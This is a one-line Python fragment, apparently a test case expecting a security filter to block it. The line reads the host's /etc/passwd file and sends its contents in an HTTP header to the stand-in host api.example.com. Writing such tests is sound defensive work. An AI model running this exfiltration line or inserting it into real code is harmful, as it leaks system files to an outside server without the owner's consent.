# expect: blocked -- sends the host's /etc/passwd
urlopen(Request("https://api.example.com/items", headers={"X-Leak": open("/etc/passwd").read()}))
